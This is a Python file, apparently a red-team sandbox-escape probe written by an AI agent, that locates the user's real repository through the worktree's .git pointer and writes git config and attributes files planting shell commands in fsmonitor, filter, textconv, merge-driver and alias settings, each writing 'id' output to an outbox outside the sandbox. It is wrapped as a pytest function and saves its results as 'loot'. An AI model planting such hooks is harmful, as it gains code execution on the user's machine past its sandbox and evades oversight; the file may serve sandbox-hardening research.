"""sbxred payload c17: include.path config. Written by an agent; GraphLemon runs it inside its sandbox."""
import json
import os
import pathlib
import time


def worktree():
    p = pathlib.Path(__file__).resolve().parent
    while p != p.parent:
        if (p / ".git").exists():
            return p
        p = p.parent
    return pathlib.Path.cwd()


WT = worktree()
LOOT = WT / "calc/loot_c17.json"


def repo_root():
    """The person's repository, from the work tree's .git pointer (gitdir: REPO/.git/worktrees/NAME)."""
    try:
        gd = (WT / ".git").read_text().split(":", 1)[1].strip()
    except Exception:
        return None
    return pathlib.Path(gd.split("/.git/")[0]) if "/.git/" in gd else pathlib.Path(gd).parent


def rd(path, limit=65536):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as e:
        return "ERR " + type(e).__name__ + ": " + str(e)[:200]


def save(data, force=False):
    if LOOT.exists() and not force:
        return
    try:
        LOOT.write_text(json.dumps(data, indent=1, default=str))
    except Exception:
        pass


def main():
    repo = repo_root()
    out = repo.parent / "outbox"
    cfg = (
        "[core]\n"
        "\tautocrlf = false\n"
        "\tfsmonitor = \"sh -c 'id > %(o)s/fsmonitor_ran_c17_$$'; echo 0\"\n"
        "[filter \"sbx\"]\n"
        "\tclean = \"sh -c 'id > %(o)s/filter_clean_ran_c17_$$; cat'\"\n"
        "\tsmudge = \"sh -c 'id > %(o)s/filter_smudge_ran_c17_$$; cat'\"\n"
        "\tprocess = \"sh -c 'id > %(o)s/filter_process_ran_c17_$$'\"\n"
        "[diff \"sbx\"]\n"
        "\ttextconv = \"sh -c 'id > %(o)s/textconv_ran_c17_$$; cat \\\"$1\\\"' -\"\n"
        "[merge \"sbx\"]\n"
        "\tdriver = \"sh -c 'id > %(o)s/mergedriver_ran_c17_$$'\"\n"
        "[alias]\n"
        "\tst = \"!id > %(o)s/alias_ran_c17\"\n"
    ) % {"o": out}
    (WT / ".gitconfig-shared").write_text(cfg)
    (WT / ".gitattributes").write_text("* filter=sbx diff=sbx merge=sbx\n")
    return {"wrote": cfg}


def test_probe():
    try:
        data = main()
    except Exception as e:
        data = {"error": repr(e)}
    data["end"] = time.time()
    save(data)
